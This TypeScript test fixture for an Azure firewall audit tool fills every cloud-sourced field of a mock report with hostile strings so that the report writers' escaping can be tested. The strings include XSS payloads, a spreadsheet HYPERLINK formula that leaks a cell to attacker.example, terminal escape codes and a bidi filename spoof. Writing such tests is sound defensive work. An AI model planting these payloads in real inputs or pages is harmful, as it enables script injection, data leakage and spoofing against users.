/**
 * Audit results for the report writers' tests: a finding builder, and a result whose every
 * Azure-sourced string is hostile. Rule, collection and resource names are chosen by whoever manages
 * the firewall; a report must show them as text, never run or follow them.
 */
import type { AuditResult, CheckSummary, ClusterVerdict, Finding, Suppression } from '@aro-aks-audit/auditor';
import { ids } from './builders.ts';

/** Names an attacker with write access to a rule collection could choose, one per way out of a context. */
export const HOSTILE = {
  scriptTag: '<script>window.pwned=1</script>',
  attributeBreaker: `"><img src=x onerror="window.pwned=1">`,
  singleQuoteBreaker: `' onmouseover='window.pwned=1' x='`,
  javascriptUrl: 'javascript:window.pwned=1',
  scriptEnd: '</script><script>window.pwned=1</script>',
  lineSeparators: 'a\u2028b\u2029c',
  htmlComment: '<!--<script>',
  formula: '=HYPERLINK("https://attacker.example/?x="&A1,"click")',
  markdown: '| **bold** [link](javascript:alert(1)) @platform-team `code` # heading',
  terminal: 'red\x1b[31m\x1b]0;title\x07\r\nnext',
  /** Shown as `allow-exe.txt` by a bidi-aware viewer: RLO reverses what follows, an isolate hides more. */
  bidi: 'allow-\u202etxt.exe\u2066\u2069\u200f',
  /** What GitHub Markdown turns into links by itself (extended autolinks). */
  autolink: 'https://attacker.example/x www.attacker.example ops@attacker.example mailto:ops@attacker.example',
} as const;

export const TEST_CHECKS: CheckSummary[] = [
  {
    id: 'required-endpoint-blocked',
    code: 'AZFW101',
    severity: 'high',
    title: 'Required egress is allowed by the firewall',
    risk: 'The cluster cannot pull images or reach its control plane.',
    remediation: 'Allow the endpoint from the cluster egress sources.',
    references: ['https://learn.microsoft.com/azure/aks/outbound-rules-control-egress', 'javascript:alert(1)'],
  },
  {
    id: 'overly-broad-rule',
    code: 'AZFW201',
    severity: 'high',
    title: 'Allow rules are narrow',
    risk: 'Any destination on any port.',
    remediation: 'Narrow the rule.',
    references: [],
  },
  {
    id: 'snat-exhaustion-risk',
    code: 'AZFW301',
    severity: 'medium',
    title: 'The firewall has enough SNAT capacity for cluster egress',
    risk: 'SNAT port exhaustion.',
    remediation: 'Add public IPs.',
    references: [],
  },
  {
    id: 'collection-incomplete',
    code: 'AZFW900',
    severity: 'medium',
    title: 'All input was read',
    risk: 'Unread data hides problems.',
    remediation: 'Fix the input.',
    references: [],
  },
];

/** A finding with every required field; `overrides` sets what the test is about. */
export function findingOf(overrides: Partial<Finding> & Pick<Finding, 'id' | 'checkId'>): Finding {
  const check = TEST_CHECKS.find((c) => c.id === overrides.checkId);
  const resourceId = overrides.resourceId ?? ids.firewall('afw-test');
  return {
    code: check?.code ?? 'AZFW999',
    status: 'fail',
    severity: check?.severity ?? 'medium',
    title: check?.title ?? overrides.checkId,
    messageId: 'test',
    message: `${overrides.checkId} finding`,
    data: {},
    resourceId,
    resource: {
      id: resourceId,
      name: resourceId.split('/').at(-1) ?? resourceId,
      type: 'Microsoft.Network/azureFirewalls',
    },
    evidence: [],
    remediation: { text: check?.remediation ?? 'Fix it.' },
    ...overrides,
  };
}

export function resultOf(overrides: Partial<AuditResult> = {}): AuditResult {
  return {
    schemaVersion: 1,
    tool: { name: 'aro-aks-audit', version: '1.2.3' },
    generatedAt: '2026-11-22T00:00:00.000Z',
    scope: {
      inputs: ['fixtures/test'],
      subscriptions: ['00000000-0000-0000-0000-000000000001'],
      clusters: 1,
      firewalls: 1,
      resources: 3,
    },
    incomplete: false,
    checks: TEST_CHECKS,
    findings: [],
    coverage: [],
    clusters: [],
    notes: [],
    errors: [],
    ...overrides,
  };
}

/**
 * A result in which every string that comes from Azure is one of the hostile names: cluster, rules,
 * resources, evidence, fixes, coverage witnesses, notes, errors, log sources, the baseline.
 */
export function hostileResult(): AuditResult {
  const cluster = { id: ids.aks(HOSTILE.scriptTag), name: HOSTILE.scriptTag, kind: 'aks' };
  const ruleLabel = `afwp / ${HOSTILE.attributeBreaker} / ${HOSTILE.singleQuoteBreaker} / ${HOSTILE.scriptEnd}`;
  const blocked = findingOf({
    id: 'f-blocked',
    checkId: 'required-endpoint-blocked',
    message: `${HOSTILE.scriptTag} cannot reach ${HOSTILE.javascriptUrl}: denied by ${ruleLabel}`,
    resourceId: cluster.id,
    resource: { id: cluster.id, name: HOSTILE.scriptTag, type: 'Microsoft.ContainerService/managedClusters' },
    subject: HOSTILE.lineSeparators,
    cluster,
    endpoint: { destination: HOSTILE.javascriptUrl, protocol: 'TCP/Https', port: '443' },
    evidence: [
      {
        kind: 'rule',
        label: ruleLabel,
        detail: HOSTILE.htmlComment,
        resourceId: ids.group('afwp', HOSTILE.attributeBreaker),
      },
      { kind: 'catalog', label: HOSTILE.markdown, origin: HOSTILE.terminal },
    ],
    remediation: {
      text: `Allow ${HOSTILE.javascriptUrl} in ${HOSTILE.scriptEnd}`,
      cli: `az network firewall policy rule-collection-group collection add-filter-collection --name '${HOSTILE.singleQuoteBreaker}'`,
      json: { name: HOSTILE.scriptEnd, targetFqdns: [HOSTILE.lineSeparators] },
    },
    change: 'new',
    origin: { file: 'clusters/aks.json', pointer: '/value/0' },
  });
  const broad = findingOf({
    id: 'f-broad',
    checkId: 'overly-broad-rule',
    message: `Allow rule ${HOSTILE.formula} ${HOSTILE.bidi} is over-broad; see ${HOSTILE.autolink}`,
    resourceId: ids.group('afwp', HOSTILE.formula),
    resource: {
      id: ids.group('afwp', HOSTILE.formula),
      name: HOSTILE.formula,
      type: 'Microsoft.Network/firewallPolicies/ruleCollectionGroups',
    },
    subject: HOSTILE.markdown,
    evidence: [{ kind: 'rule', label: HOSTILE.terminal }],
    suppressed: { reason: HOSTILE.scriptTag, owner: HOSTILE.attributeBreaker, expires: '2027-01-01' },
  });
  const snat = findingOf({
    id: 'f-snat',
    checkId: 'snat-exhaustion-risk',
    message: `Firewall ${HOSTILE.attributeBreaker} has 2 frontend public IPs`,
    resourceId: ids.firewall(HOSTILE.attributeBreaker),
    resource: {
      id: ids.firewall(HOSTILE.attributeBreaker),
      name: HOSTILE.attributeBreaker,
      type: 'Microsoft.Network/azureFirewalls',
    },
    data: { firewall: HOSTILE.attributeBreaker, ips: 2, ports: 9984, recommended: 20, utilizationMax: 64 },
  });
  const unreadable = findingOf({
    id: 'f-incomplete',
    checkId: 'collection-incomplete',
    status: 'unknown',
    message: `Could not read ${HOSTILE.scriptEnd}`,
    resourceId: 'input',
    resource: { id: 'input', name: HOSTILE.scriptEnd, type: 'input' },
  });
  const passed = findingOf({
    id: 'f-pass',
    checkId: 'required-endpoint-blocked',
    status: 'pass',
    severity: 'info',
    message: `${HOSTILE.scriptTag} reaches mcr.microsoft.com`,
    cluster,
  });
  return resultOf({
    incomplete: true,
    findings: [blocked, broad, snat, unreadable, passed],
    coverage: [
      {
        cluster,
        endpointId: HOSTILE.singleQuoteBreaker,
        endpoint: { destination: HOSTILE.javascriptUrl, protocol: 'TCP/Https', port: '443' },
        required: true,
        verdict: 'denied',
        witness: ruleLabel,
      },
    ],
    clusters: [
      {
        ...cluster,
        verdict: 'blocked',
        reason: `cannot reach 1 required endpoint: ${HOSTILE.javascriptUrl}`,
        paths: [
          {
            subnetId: ids.subnet(HOSTILE.attributeBreaker, HOSTILE.scriptEnd),
            from: `${HOSTILE.attributeBreaker}/${HOSTILE.scriptEnd}`,
            sources: ['10.1.0.0/22'],
            to: 'firewall',
            firewall: { id: ids.firewall(HOSTILE.attributeBreaker), name: HOSTILE.attributeBreaker },
            reason: HOSTILE.terminal,
          },
        ],
        required: 1,
        allowed: 0,
        blocked: 1,
        unknown: 0,
        proxied: 0,
        optional: { allowed: 0, denied: 0, unknown: 0 },
        beyondRequired: [
          {
            rule: ruleLabel,
            ruleKind: 'network',
            resourceId: ids.group('afwp', HOSTILE.attributeBreaker),
            firewall: HOSTILE.attributeBreaker,
            destinations: ['*', HOSTILE.scriptTag],
            protocols: ['TCP'],
            ports: ['*'],
            breadth: 'anything',
            sharedWith: [HOSTILE.formula],
          },
        ],
      },
    ],
    notes: [{ kind: 'unknown-type', message: HOSTILE.scriptTag, source: HOSTILE.attributeBreaker }],
    errors: [{ source: HOSTILE.scriptEnd, message: HOSTILE.lineSeparators }],
    logs: {
      sources: [
        {
          source: HOSTILE.attributeBreaker,
          tables: [HOSTILE.scriptTag],
          rowsRead: 1200,
          rowsRejected: 1,
          rejected: [{ line: 3, reason: HOSTILE.scriptEnd }],
          firstSeen: '2026-11-21T00:00:00.000Z',
          lastSeen: '2026-11-21T05:59:00.000Z',
        },
      ],
      window: { from: '2026-11-21T00:00:00.000Z', to: '2026-11-21T05:59:00.000Z' },
      deniedRequiredTimeline: [
        { cluster: HOSTILE.scriptTag, hour: '2026-11-21T00:00:00.000Z', hits: 4 },
        { cluster: HOSTILE.scriptTag, hour: '2026-11-21T03:00:00.000Z', hits: 12 },
        { cluster: 'aks-b', hour: '2026-11-21T05:00:00.000Z', hits: 2 },
      ],
    },
    baseline: {
      source: HOSTILE.attributeBreaker,
      generatedAt: '2026-11-15T00:00:00.000Z',
      newFindings: 1,
      unchangedFindings: 0,
      resolved: [
        {
          id: 'f-old',
          checkId: 'overly-broad-rule',
          code: 'AZFW201',
          severity: 'high',
          title: 'Allow rules are narrow',
          message: HOSTILE.scriptEnd,
          resourceId: ids.group('afwp', 'old'),
        },
      ],
      notReassessed: [],
      catalogChanges: [{ cluster: HOSTILE.scriptTag, added: [HOSTILE.javascriptUrl], removed: [] }],
    },
  });
}

/** An AKS cluster's verdict, `ok` through firewall afw-hub unless `fields` say otherwise. */
export function clusterVerdictOf(name: string, fields: Partial<ClusterVerdict> = {}): ClusterVerdict {
  return {
    id: ids.aks(name),
    name,
    kind: 'aks',
    verdict: 'ok',
    reason: 'reaches its 12 required endpoints through firewall afw-hub',
    paths: [
      {
        subnetId: ids.subnet('vnet-spoke', `snet-${name}`),
        from: `vnet-spoke/snet-${name}`,
        sources: ['10.1.0.0/22'],
        to: 'firewall',
        firewall: { id: ids.firewall('afw-hub'), name: 'afw-hub' },
        reason: 'Internet-bound traffic goes to the firewall',
      },
    ],
    required: 12,
    allowed: 12,
    blocked: 0,
    unknown: 0,
    proxied: 0,
    optional: { allowed: 0, denied: 0, unknown: 0 },
    beyondRequired: [],
    ...fields,
  };
}

/** A suppressions-file entry for unused rules in resource group rg-hub; `overrides` sets what the test is about. */
export function suppressionOf(overrides: Partial<Suppression> = {}): Suppression {
  return {
    check: 'unused-rule',
    resource: '/subscriptions/*/resourceGroups/rg-hub/**',
    reason: 'kept for the DR test',
    owner: 'platform@contoso.com',
    source: 'suppressions.yaml:2',
    ...overrides,
  };
}
